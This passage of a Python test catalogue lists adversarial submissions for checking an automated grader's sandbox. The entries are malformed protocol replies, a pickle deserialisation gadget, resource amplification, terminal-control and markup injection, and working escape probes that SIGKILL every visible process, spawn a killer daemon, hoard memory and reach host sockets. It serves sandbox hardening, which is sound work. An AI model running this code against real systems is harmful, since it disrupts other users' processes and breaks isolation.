        "d_softmax", "head = b'{\"id\": %d, \"op\": \"called\", \"status\": \"ok\", \"blobs\": [], \"result\": ' % header['id'] + b'[' * 100000 + b']' * 100000 + b'}'\nreturn frame(head)",
        says=("nested too deeply",),
    ),
    _reply_attack(
        "reply-huge-integers", "dJ_dW2's replies report 10**400 seconds, 10**400 printed characters and return the integer 10**400",
        "dJ_dW2", "return real_pack(dict(header, seconds=10**400, output_chars=10**400, result={'t': 'int', 'v': 10**400}), blobs)",
        says=("beyond int64",),
    ),
    _reply_attack(
        "reply-nan-infinity-and-overflowing-float", "dJ_db2's replies carry NaN and Infinity (not JSON) and the float 1e400",
        "dJ_db2", "head = json.dumps(dict(header, seconds=float('nan'), output_chars=float('inf'), blobs=[len(b) for b in blobs])).encode()\nreturn frame(head[:-1] + b', \"extra\": 1e400}', b''.join(blobs))",
        says=("NaN in JSON",),
    ),
    _reply_attack(
        "reply-string-array", "dJ_dX2 returns an array of strings (markup inside) through a rewritten reply",
        "dJ_dX2", _npy("numpy.array(['<b>bold</b>'] * 12)"), says=("did not follow the protocol",),
    ),
    _reply_attack(
        "reply-pickled-object-array", f"dJ_dW1 returns a pickled object array whose unpickling would create /tmp/{MARKER}-unpickled",
        "dJ_dW1",
        f"import pickle\nclass Boom:\n    def __reduce__(self):\n        return (open, ('/tmp/{MARKER}-unpickled', 'w'))\n" + _object_npy("pickle.dumps([Boom(), 1])"),
        says=("did not follow the protocol",),
    ),
    _reply_attack(
        "reply-datetime-array", "dJ_db1 returns an array of datetime64 through a rewritten reply",
        "dJ_db1", _npy("numpy.array(['2020-01-01'] * 4, dtype='datetime64[s]')"), says=("did not follow the protocol",),
    ),
    _reply_attack(
        "reply-huge-byte-count", "cross_entropy's replies say their first array is 10**400 bytes long",
        "cross_entropy", "head = json.dumps(dict(header, blobs=[10**400] + [len(b) for b in blobs])).encode()\nreturn frame(head, b''.join(blobs))",
        says=("beyond int64",),
    ),
    _reply_attack(
        "reply-60mb-header", "relative_error's replies carry 60 MB of printed output in their JSON header (over the reply limit)",
        "relative_error", "return frame(b'{\"id\": %d, \"op\": \"called\", \"output\": \"' % header['id'] + b'x' * 60_000_000 + b'\"}')", says=("more than the",),
    ),
    _reply_attack(
        "reply-20mb-header", "cost_n's replies carry 20 MB of printed output in their JSON header (under the reply limit, over the header limit)",
        "cost_n", "return frame(b'{\"id\": %d, \"op\": \"called\", \"output\": \"' % header['id'] + b'x' * 20_000_000 + b'\"}')", says=("a header of",),
    ),
    _reply_attack(
        "reply-60mb-array", "softmax_jacobian returns a 60 MB array (7,500,000 zeros) through a rewritten reply",
        "softmax_jacobian", _npy("numpy.zeros(7_500_000)"), says=("more than the",),
    ),
    _reply_attack(
        "reply-40mb-array", "dJ_dZ2 returns a 40 MB array (5,000,000 zeros), under the reply limit, through a rewritten reply",
        "dJ_dZ2", _npy("numpy.zeros(5_000_000)"), says=("shape",),
    ),
    _attack(
        "reply-non-dict-units", "a class body makes the reply to its own statement list the number 5 as each statement's outcome",
        py(tail=at_import(_rewrite_reply("return real_pack(dict(header, units=[5] * len(header.get('units', []))), blobs)", op="loaded"), "_Units")),
        says=("not an object",),
    ),
]

_AMPLIFICATION = [
    _attack(
        "skipped-statements-2mb", "2 MB of `print(0)` statements after the definitions (500,000 skipped statements)",
        _padded("print(0)\n", size=1_990_000), attacked=ALL, honest={name: 0.0 for name in NAMES},
        says=("submissions are limited to",),
    ),
    _attack(
        "skipped-statements-10k", "10,000 lines of `print(0)` after the definitions, under the statement limit: graded, the list capped",
        _padded("print(0)\n", lines=10_000),
    ),
    _attack(
        "raising-statements-1500", "1,500 class bodies that each raise ZeroDivisionError with a long message",
        py(tail="".join(at_import(f"raise ZeroDivisionError('{i} ' + 'z' * 5000)", f"_Raise{i}") + "\n" for i in range(1500))),
    ),
    _attack(
        "dict-100k-long-keys", "update returns its dict plus 100,000 keys of 300 characters",
        py(functions={"update": hostile("update", after="out.update({'k%06d' % i + 'x' * 300: 0.0 for i in range(100_000)})\nreturn out")}),
        attacked={"update"}, honest={"update": 0.0},
    ),
    _attack(
        "dict-8k-long-keys", "update returns its dict plus 8,000 keys of 300 characters (each echoed if messages listed keys)",
        py(functions={"update": hostile("update", after="out.update({'k%06d' % i + 'x' * 300 + '<b>': 0.0 for i in range(8_000)})\nreturn out")}),
        attacked={"update"}, honest={"update": 0.0},
    ),
    _attack(
        "exception-message-of-30mb", "d_softmax raises a KeyError whose message lists 100,000 keys of 300 characters",
        py(functions={"d_softmax": hostile("d_softmax", before="raise KeyError(' '.join('k%06d' % i + 'x' * 300 for i in range(100_000)))")}),
        attacked={"d_softmax"}, honest={"d_softmax": 0.0},
    ),
]

_INJECTION = [
    _attack(
        "control-characters-in-exception", "d_softmax raises an exception whose type name and message hold terminal controls (clear screen, fake score, OSC 52, \\r, C1, RLO)",
        py(functions={"d_softmax": hostile("d_softmax", before=f"raise type({('Evil' + TERMINAL_TRICKS)!r}, (Exception,), {{}})({TERMINAL_TRICKS!r} * 3)")}),
        attacked={"d_softmax"}, honest={"d_softmax": 0.0},
    ),
    _attack(
        "markup-in-exception", "dJ_dW2 raises an exception whose type name and message hold HTML and markdown",
        py(functions={"dJ_dW2": hostile("dJ_dW2", before=f"raise type({('Markup<b>' + '_x_')!r}, (Exception,), {{}})({MARKUP!r})")}),
        attacked={"dJ_dW2"}, honest={"dJ_dW2": 0.0},
    ),
    _attack(
        "control-characters-and-markup-at-import", "a class body prints terminal controls and markup, then raises with them in its message",
        py(tail=at_import(f"print({TERMINAL_TRICKS!r} + {MARKUP!r})\nraise ValueError({TERMINAL_TRICKS!r} + {MARKUP!r})", "_Shout")),
    ),
]

ATTACKS = ATTACKS + tuple(_REPLIES + _AMPLIFICATION + _INJECTION)
GROUPS["malformed replies"] = _REPLIES
GROUPS["amplification"] = _AMPLIFICATION
GROUPS["control characters and markup"] = _INJECTION
# the worst replies and amplifications, whose grading memory and report size are measured
MEASURED = ("reply-deeply-nested-header", "reply-60mb-header", "reply-20mb-header", "reply-60mb-array", "reply-40mb-array", "skipped-statements-2mb", "skipped-statements-10k", "dict-8k-long-keys", "raising-statements-1500")
INJECTIONS = tuple(a.id for a in _INJECTION)

_ids = [a.id for a in ATTACKS]
assert len(_ids) == len(set(_ids)), "attack ids must be unique"
del _ids


if __name__ == "__main__":  # list the catalogue
    for group, attacks in GROUPS.items():
        print(f"{group}: {len(attacks)}")
        for attack in attacks:
            print(f"    {attack.id}: {attack.description}")
    print(f"{len(ATTACKS)} attacks")


# --- issue 13: the sandbox holds (pid namespace, uids, memory as a whole, IPC, host sockets) ---
# Each breach is turned into points where it can be: the hostile function returns the right
# value only if the breach worked (``honest`` bounds it to WRONG_VALUE), so a sandbox that lets
# it through fails "honest". tests/test_adversarial.py also watches the host for what these
# leave behind (a SysV segment, a connection to a socket under /run, a live daemon) and grades
# a batch in which one student's crashes must not reach the next student's worker.

HOST_SOCKET_NAME = f"{MARKER}-host.sock"  # tests/test_adversarial.py listens on /run/<its pid>-<this>
SHM_KEY = 0x7A716164  # "zqad": the SysV segment the shm attack makes, looked up on the host
MEMFD_BREACH_BYTES = 2 << 30  # held beyond the test's 1024 MB limit (+ the cgroup's slack)

_KILL_EVERYONE = f'''
def _kill_everyone():
    """SIGWINCH (the test's grader counts it) then SIGKILL to every pid in sight, then to -1."""
    import os, signal
    mine = os.getpid()
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (0, mine):
            for number in (signal.SIGWINCH, signal.SIGKILL):
                try:
                    os.kill(int(name), number)
                except OSError:
                    pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
'''

_DAEMON = f'''
def _start_daemon():
    """A setsid daemon that waits for its worker to end, then SIGKILLs everything it may,
    every 0.1 s for a minute: the workers of the submissions graded after it, if it lived on."""
    import os, subprocess, sys
    loop = (
        "import os, signal, sys, time\\n"
        "worker = int(sys.argv[1])\\n"
        "while True:\\n"
        "    try:\\n"
        "        os.kill(worker, 0)\\n"
        "    except OSError:\\n"
        "        break\\n"
        "    time.sleep(0.05)\\n"
        "for _ in range(600):\\n"
        "    try:\\n"
        "        os.kill(-1, signal.SIGKILL)\\n"
        "    except OSError:\\n"
        "        pass\\n"
        "    time.sleep(0.1)\\n"
    )
    try:
        subprocess.Popen([sys.executable, "-c", loop, str(os.getpid()), "{MARKER}-daemon"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        return 1
    except OSError:
        return 0
'''

_MEMFD = f'''
def _memfd_hoard():
    """64 memfds of 64 MB each, filled with posix_fallocate: True if more than
    MEMFD_BREACH_BYTES were held at once (outside the address-space limit)."""
    import os, signal
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # an over-long file then fails with EFBIG
    fds, held = [], 0
    try:
        for index in range(64):
            try:
                fd = os.memfd_create("{MARKER}-" + str(index))
            except OSError:
                break
            fds.append(fd)
            try:
                os.posix_fallocate(fd, 0, 64 << 20)
            except OSError:
                break
            held += 64 << 20
    finally:
        for fd in fds:
            os.close(fd)
    return held > {MEMFD_BREACH_BYTES}
'''

_SYSV = f'''
def _shm_segment():
    """A System V segment anyone may read and write (mode 666), left behind on purpose."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    shmid = libc.shmget(ctypes.c_int({SHM_KEY}), ctypes.c_size_t(1 << 20), ctypes.c_int(0o1000 | 0o666))
    if shmid >= 0:
        libc.shmat.restype = ctypes.c_void_p
        address = libc.shmat(shmid, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(address, b"{MARKER}", len(b"{MARKER}"))
    return shmid >= 0
'''

_HOST_SOCKET = f'''
def _host_socket():
    """True if a unix socket of the host under /run answered."""
    import glob, socket
    for path in glob.glob("/run/*{HOST_SOCKET_NAME}") + glob.glob("/run/user/*/*{HOST_SOCKET_NAME}"):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            try:
                s.connect(path)
                s.sendall(b"{MARKER}")
                return True
            except OSError:
                pass
    return False
'''

_HOST_PROC = '''
def _host_processes_visible():
    """True if the worker sees a process that is not its own or its jail's pid 1 (the
    launcher, ``python -I -c``): the host's init, the grader, other workers."""
    import os
    mine = os.getpid()
    others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, mine)]
    try:
        with open("/proc/1/cmdline", "rb") as f:
            first = f.read()
    except OSError:
        first = b""
    return bool(others) or b"-I\\0-c\\0" not in first
'''

_SANDBOX_13 = [
    _attack(
        "kill-the-grader-from-a-call", "dJ_dW2 sends SIGWINCH and SIGKILL to every pid it sees and SIGKILL to -1, then returns the right value",
        py(prelude=_KILL_EVERYONE, functions={"dJ_dW2": hostile("dJ_dW2", before="_kill_everyone()")}),
        attacked={"dJ_dW2"}, modes=NAMESPACES, not_in_classes=True,
    ),
    _attack(
        "setsid-daemon-kills-everything-it-can", "a class body starts a setsid daemon that, once its worker is gone, SIGKILLs -1 every 0.1 s for a minute",
        py(prelude=_DAEMON, tail=at_import("started = _start_daemon()", "_Daemon")),
        attacked=set(), modes=NAMESPACES, not_in_classes=True,
    ),
    _attack(
        "memfd-fallocate-beyond-the-memory-limit", "dJ_db2 fills 64 memfds of 64 MB with posix_fallocate; right only if it held over 2 GB",
        py(prelude=_MEMFD, functions={"dJ_db2": hostile("dJ_db2", after="return out if _memfd_hoard() else out + 1.0")}),
        attacked={"dJ_db2"}, honest={"dJ_db2": WRONG_VALUE}, modes=NAMESPACES, not_in_classes=True,
    ),
    _attack(
        "sysv-shared-memory-left-behind", "dJ_dW1 makes a mode-666 System V segment (key 'zqad') and leaves it",
        py(prelude=_SYSV, functions={"dJ_dW1": hostile("dJ_dW1", before="_shm_segment()")}),
        attacked={"dJ_dW1"}, modes=NAMESPACES, not_in_classes=True,
    ),
    _attack(
        "host-unix-socket-under-run", "dJ_dX2 connects to a unix socket the host listens on under /run; right only if it could",
        py(prelude=_HOST_SOCKET, functions={"dJ_dX2": hostile("dJ_dX2", after="return out if _host_socket() else out + 1.0")}),
        attacked={"dJ_dX2"}, honest={"dJ_dX2": WRONG_VALUE}, modes=NAMESPACES, not_in_classes=True,
    ),
    _attack(
        "host-proc-1-cmdline", "dJ_db1 reads /proc/1/cmdline and lists /proc; right only if it sees a process not its own",
        py(prelude=_HOST_PROC, functions={"dJ_db1": hostile("dJ_db1", after="return out if _host_processes_visible() else out + 1.0")}),
        attacked={"dJ_db1"}, honest={"dJ_db1": WRONG_VALUE}, modes=NAMESPACES, not_in_classes=True,
    ),
]
ATTACKS = ATTACKS + tuple(_SANDBOX_13)
GROUPS["the sandbox holds (issue 13)"] = _SANDBOX_13
assert len({a.id for a in ATTACKS}) == len(ATTACKS), "attack ids must be unique"
